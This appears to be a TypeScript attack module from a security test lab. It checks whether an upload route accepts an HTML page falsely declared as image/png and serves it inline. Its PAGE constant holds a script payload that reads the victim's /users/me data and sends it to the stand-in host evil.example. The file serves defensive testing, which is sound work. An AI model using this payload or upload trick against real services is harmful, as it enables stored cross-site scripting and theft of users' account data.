import type { Attack } from '../lab/attack.js'

const PAGE = '<!doctype html><script>fetch("/users/me").then(answer => answer.text()).then(text => fetch("https://evil.example/" + text))</script>'

export default {
  title: 'Upload a page that says that it is an image',
  risk: 'API8',
  cwe: 434,
  concern: 'uploads',
  story: "Mallory uploads HTML, calls it image/png, and sends people its address: a page of hers, in the service's own name.",
  defence: 'Extension, declared type and content must agree, on a kind that the route takes; what is served is an attachment.',
  refusal: { status: 415, code: 'FST_BASTION_UPLOADS_TYPE' },
  async run ({ step, person }) {
    const mallory = await person()
    step('Mallory uploads it')
    const decisive = await mallory.ask('POST', '/upload/image', { file: { name: `${mallory.username}.html`, type: 'image/png', content: Buffer.from(PAGE) } })
    if (decisive.status !== 201) return { succeeded: false, decisive, evidence: 'It is not taken' }
    step('She looks at how it is served')
    const { headers, text } = await mallory.ask('GET', `/files/${decisive.body.name}`)
    const succeeded = String(headers['content-type']).startsWith('text/html') && headers['content-disposition'] === undefined && text.includes('<script>')
    return { succeeded, decisive, evidence: `It is served as ${headers['content-type']}` }
  },
} satisfies Attack
